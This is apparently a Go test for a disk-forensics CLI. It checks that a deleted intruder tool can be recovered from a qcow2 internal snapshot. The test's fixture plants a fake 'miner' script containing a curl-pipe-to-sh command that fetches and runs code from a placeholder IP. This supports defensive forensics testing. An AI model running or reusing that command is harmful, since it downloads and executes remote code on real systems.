package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/coldcase-dfir/coldcase/internal/testenv"
)

// runOut runs the CLI in-process and returns what it printed.
func runOut(t *testing.T, args ...string) (string, error) {
	t.Helper()
	var out bytes.Buffer
	root := newRoot()
	root.SetOut(&out)
	root.SetArgs(args)
	err := root.Execute()
	return out.String(), err
}

// TestInternalSnapshot: an intruder's tool deleted from the disk is still
// in a qcow2 internal snapshot taken before. info lists the snapshot, ls
// and cat read it with --snapshot, and dump --snapshot gives the disk as
// it was (the filesystem made by mkfs.ext4 -d, byte for byte).
func TestInternalSnapshot(t *testing.T) {
	testenv.NeedTool(t, "qemu-img")
	testenv.NeedTool(t, "mkfs.ext4")
	dir := t.TempDir()
	then, now := filepath.Join(dir, "then"), filepath.Join(dir, "now")
	for _, d := range []string{then, now} {
		if err := os.MkdirAll(filepath.Join(d, "etc"), 0o755); err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(d, "etc", "hostname"), []byte("web01\n"), 0o644)
	}
	os.MkdirAll(filepath.Join(then, "tmp", ".x"), 0o755)
	os.WriteFile(filepath.Join(then, "tmp", ".x", "miner"), []byte("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"), 0o755)
	rawThen, rawNow := filepath.Join(dir, "then.raw"), filepath.Join(dir, "now.raw")
	testenv.Run(t, "mkfs.ext4", "-q", "-F", "-d", then, rawThen, "4M")
	testenv.Run(t, "mkfs.ext4", "-q", "-F", "-d", now, rawNow, "4M")
	img := filepath.Join(dir, "vm.qcow2")
	testenv.Run(t, "qemu-img", "convert", "-O", "qcow2", rawThen, img)
	testenv.Run(t, "qemu-img", "snapshot", "-c", "before-cleanup", img)
	// The later state is written over the same file, keeping the snapshot.
	testenv.Run(t, "qemu-img", "convert", "-n", "-f", "raw", "-O", "qcow2", rawNow, img)

	info, err := runOut(t, "info", img)
	if err != nil || !strings.Contains(info, "Internal snapshots") || !strings.Contains(info, "before-cleanup") {
		t.Fatalf("info: %v\n%s", err, info)
	}
	ls, err := runOut(t, "ls", img, "-r")
	if err != nil || strings.Contains(ls, "miner") || !strings.Contains(ls, "hostname") {
		t.Fatalf("ls of the current state: %v\n%s", err, ls)
	}
	ls, err = runOut(t, "ls", img, "-r", "--snapshot", "before-cleanup")
	if err != nil || !strings.Contains(ls, "/tmp/.x/miner") {
		t.Fatalf("ls --snapshot: %v\n%s", err, ls)
	}
	cat, err := runOut(t, "cat", img, "/tmp/.x/miner", "--snapshot", "before-cleanup")
	if err != nil || !strings.Contains(cat, "203.0.113.9") {
		t.Fatalf("cat --snapshot: %v\n%s", err, cat)
	}
	// The snapshot is on the timeline, at the time info gives.
	var rep infoReport
	js, err := runOut(t, "info", img, "-o", "json")
	if err != nil || json.Unmarshal([]byte(js), &rep) != nil || len(rep.Images) != 1 || len(rep.Images[0].Chain[0].Snapshots) != 1 {
		t.Fatalf("info -o json: %v\n%s", err, js)
	}
	taken := rep.Images[0].Chain[0].Snapshots[0].Date.UTC().Format(time.RFC3339)
	tl, err := runOut(t, "timeline", img, "--source", "image", "-o", "csv")
	if err != nil || !strings.Contains(tl, "before-cleanup") || !strings.Contains(tl, strings.TrimSuffix(taken, "Z")) {
		t.Errorf("timeline --source image: %v, want the snapshot at %s\n%s", err, taken, tl)
	}

	out := filepath.Join(dir, "dump.raw")
	if err := run(t, "dump", img, "--snapshot", "before-cleanup", "-o", out); err != nil {
		t.Fatal(err)
	}
	if a, b := sha256File(t, out), sha256File(t, rawThen); a != b {
		t.Errorf("dump --snapshot: %s, the filesystem as made: %s", a, b)
	}
	if err := run(t, "ls", img, "--snapshot", "nosuch"); err == nil {
		t.Error("ls --snapshot of a missing snapshot succeeded")
	}
}
